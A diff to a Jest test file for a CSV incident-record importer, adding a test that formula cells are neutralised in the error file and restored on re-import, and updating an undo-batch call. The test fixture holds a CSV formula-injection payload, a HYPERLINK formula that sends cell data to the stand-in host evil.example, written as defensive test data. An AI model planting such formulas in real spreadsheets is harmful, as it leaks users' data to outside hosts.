@@ -317,6 +317,31 @@ describe("invalid rows", () => {
   });
 });
 
+describe("formulas in the error file", () => {
+  it("writes a cell such as =HYPERLINK(...) neutralised for Excel, and reads it back as typed when re-imported", async () => {
+    const db = memoryDb();
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+    const file = writeTmp(
+      "formula.csv",
+      `管理番号,発生日時,発生場面,行為類型,概要\r\nF-1,2099-01-01,電話,威圧的な言動,"${hostile.replace(/"/g, '""')}"\r\n`,
+    );
+    const errorFile = path.join(tmp, "formula.errors.csv");
+    const r = await run(db, file, { errorFilePath: errorFile });
+    expect(r.invalid).toBe(1);
+    const raw = fs.readFileSync(errorFile, "utf8");
+    const row = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true }).data[1];
+    expect(row[4]).toBe(`'${hostile}`);
+    expect(raw).not.toMatch(/(^|,)"?=HYPERLINK/m);
+
+    // Corrected in Excel (the date) and imported again: the summary is stored exactly as first typed.
+    const fixed = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true }).data;
+    fixed[1][1] = "2025-05-01";
+    const again = await run(db, writeTmp("formula.fixed.csv", Papa.unparse(fixed)));
+    expect(again.imported).toBe(1);
+    expect(stored(db)[0].summary).toBe(hostile);
+  });
+});
+
 describe("duplicates", () => {
   it("skips rows without a ref that repeat an earlier row of the file (occurred_at, client, department, channel, summary)", async () => {
     const db = memoryDb();
@@ -387,7 +412,7 @@ describe("--update and undoing a batch", () => {
     expect(byRef(db, "KH-0006")).toBeDefined();
     expect(stored(db).filter((i) => i.ref !== "KH-0002" && i.ref !== "KH-0006")).toEqual([SAMPLE[0], ...SAMPLE.slice(2)]);
 
-    expect(undoBatch(db, r.batchId!, "tester")).toEqual({ deleted: 1, restored: 1 });
+    expect(undoBatch(db, r.batchId!, { userId: null, name: "tester", ip: null })).toEqual({ deleted: 1, restored: 1 });
     expect(stored(db)).toEqual(SAMPLE);
     expect(getBatch(db, r.batchId!)).toMatchObject({ undoneAt: expect.any(String), undoneBy: "tester", stored: 0 });
     expect(getBatch(db, first.batchId!)).toMatchObject({ undoneAt: null, stored: 5 });
